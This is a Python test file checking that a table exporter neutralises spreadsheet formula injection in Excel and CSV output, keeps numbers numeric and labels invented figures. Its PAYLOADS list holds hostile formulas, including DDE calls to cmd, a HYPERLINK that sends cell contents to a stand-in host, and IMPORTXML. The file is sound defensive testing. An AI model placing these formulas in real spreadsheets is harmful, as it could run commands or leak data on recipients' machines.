"""What leaves as Excel or CSV: text stays text in whichever spreadsheet, numbers stay numbers, and invented figures say so."""

from __future__ import annotations

import csv
import io
import math
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from pipelines.writing.tables import ExportTable, as_csv, as_excel

COMMANDS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example?"&A1,"klikk")',
    "IMPORTXML(A1,B1)",
    "SUM(1)*cmd|'/C calc'!A0",
]
PAYLOADS = [
    *(f"{sign}{command}" for sign in "=+-@＝＋－＠" for command in COMMANDS),  # noqa: RUF001
    *(f"{hidden}=1+1" for hidden in ("\t", "\r", "\n", "\r\n", " ", "  ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\x00", "\x0b", "\x1b")),
    *(f"Fjordby{split}=1+1" for split in (";", ",", "\t", "\n", '"', ';"', "; ", ", ", ',"', "\r\n", ";\u200b")),
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(A1)", "-2+3+cmd|' /C calc'!D2", "+47 55 56 60 00", "=", "-", "'=1+1", "''=1+1",
]  # fmt: skip
HARMLESS = [
    "Fjordby",
    "E39 Os–Bergen",
    "a=b",
    "2026-04",
    "1,5",
    "50/50-bidrag",
    "−2,2 til 3,8",
    "Nygård, Bønes",
    "Å; ø",
    "x - y",
    "",
    "#N/A",
    "TRUE",
]


def table(rows, headers=("navn",), note=None, title="Tabell", about_title="Om tallene"):
    return ExportTable(title, headers, rows, {"Avtale": "Fjordbyen", "=Merknad": "=1+1"}, about_title, note)


def book_of(made):
    return load_workbook(io.BytesIO(as_excel(made)))


def read_csv(made, decimal_comma, delimiter):
    return list(csv.reader(io.StringIO(as_csv(made, decimal_comma).decode("utf-8-sig"), newline=""), delimiter=delimiter))


def begins_a_formula(text):
    """Slow and obvious: what is left when everything that a spreadsheet may skip is taken away begins with a sign of a formula."""
    while text and (text[0].isspace() or text[0] in "\ufeff\u200b\u200c\u200d\u2060" or ord(text[0]) < 32):
        text = text[1:]
    return text[:1] in set("=+-@＝＋－＠")  # noqa: RUF001


def test_there_are_enough_payloads_and_each_would_be_one():
    assert len(set(PAYLOADS)) >= 60
    assert [text for text in PAYLOADS if not any(begins_a_formula(part) for part in re.split("[;,\t\r\n\"']", text))] == []


def test_no_payload_is_a_formula_in_excel_anywhere_in_the_book():
    book = book_of(table([[text, text] for text in PAYLOADS], headers=PAYLOADS[:2], note=("=Merknad", "@Oppdiktet")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    written = [row[0] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert written[0] == "=1+1"
    assert len(written) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("decimal_comma", [True, False])
@pytest.mark.parametrize("reader", [";", ",", "\t"])
def test_no_payload_begins_a_cell_of_a_csv_whatever_it_is_split_at(payload, decimal_comma, reader):
    made = table([["Bybanen", payload, 1.5], [payload, "x", None]], headers=("navn", payload, "mnok"), note=(payload, payload))
    cells = [cell for row in read_csv(made, decimal_comma, reader) for cell in row]
    lines = [line for cell in cells for line in re.split("[\r\n]", cell)]
    assert [line for line in lines if begins_a_formula(line)] == []


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_no_text_at_all_begins_a_cell_of_a_csv(texts):
    for decimal_comma, reader in ((True, ";"), (False, ",")):
        cells = [cell for row in read_csv(table([texts], headers=texts), decimal_comma, reader) for cell in row]
        assert [cell for cell in cells if begins_a_formula(cell)] == []


@pytest.mark.parametrize(("decimal_comma", "delimiter"), [(True, ";"), (False, ",")])
def test_harmless_text_is_left_as_it_is(decimal_comma, delimiter):
    made = table([[text, "x"] for text in HARMLESS], headers=("navn", "x"))
    assert [row[0] for row in read_csv(made, decimal_comma, delimiter)[1:]] == HARMLESS
    assert [cell.value or "" for (cell, _) in book_of(made).worksheets[0].iter_rows(min_row=2)] == HARMLESS


NUMBERS = [-2.2, -7, 0, 1234567.25, 1e-7, Decimal("-131.05"), Decimal("1E+3"), None, math.nan, math.inf]


@pytest.mark.parametrize(
    ("decimal_comma", "expected"),
    [
        (True, b"-2,2;-7;0;1234567,25;1e-07;-131,05;1000;;;"),
        (False, b"-2.2,-7,0,1234567.25,1e-07,-131.05,1000,,,"),
    ],
)
def test_numbers_in_csv(decimal_comma, expected):
    made = as_csv(table([NUMBERS], headers=["a"] * 10), decimal_comma)
    assert made.split(b"\r\n")[1:] == [expected, b""]


def test_numbers_in_excel_are_numbers():
    [cells] = book_of(table([NUMBERS], headers=["a"] * 10)).worksheets[0].iter_rows(min_row=2)
    assert [cell.value for cell in cells[:7]] == [-2.2, -7, 0, 1234567.25, 1e-7, -131.05, 1000]
    assert {cell.data_type for cell in cells[:7]} == {"n"}
    assert [cell.value for cell in cells[7:]] == [None] * (len(cells) - 7)


def test_a_csv_is_what_excel_opens_without_questions():
    assert as_csv(table([["Bønes", 1.5]], headers=("navn", "mnok")), decimal_comma=True) == (
        b"\xef\xbb\xbf" + "navn;mnok\r\nBønes;1,5\r\n".encode()
    )


def test_invented_figures_say_so_on_every_row():
    made = table([["a", 1], ["b", 2]], headers=("navn", "mnok"), note=("Merknad", "Oppdiktede data"))
    expected = [["navn", "mnok", "Merknad"], ["a", "1", "Oppdiktede data"], ["b", "2", "Oppdiktede data"]]
    assert read_csv(made, decimal_comma=True, delimiter=";") == expected
    assert [[str(cell) for cell in row] for row in book_of(made).worksheets[0].values] == expected


def test_the_second_sheet_says_what_the_first_one_is():
    book = book_of(table([["a"]]))
    assert book.sheetnames == ["Tabell", "Om tallene"]
    assert list(book["Om tallene"].values) == [("Avtale", "Fjordbyen"), ("=Merknad", "=1+1")]
    assert book["Tabell"].freeze_panes == "A2"
    assert all(cell.font.bold for cell in book["Tabell"][1])


@pytest.mark.parametrize(
    ("title", "about_title", "names"),
    [
        ("Glidende indeks, 36 måneder: Fjordbyen", "Om tallene", ["Glidende indeks, 36 måneder Fjo", "Om tallene"]),
        ("[a]:*?/\\b", "'c'", ["ab", "c"]),
        ("", "///", ["-", "- 2"]),
        ("om tallene", "Om Tallene", ["om tallene", "Om Tallene 2"]),
        ("x" * 40, "x" * 31, ["x" * 31, "x" * 29 + " 2"]),
        ("a\x0bb", "c\x00", ["ab", "c"]),
        ("y" * 30 + "'z", "Om", ["y" * 30, "Om"]),
    ],
)
def test_sheets_have_names_that_excel_takes(title, about_title, names):
    assert book_of(table([["a"]], title=title, about_title=about_title)).sheetnames == names
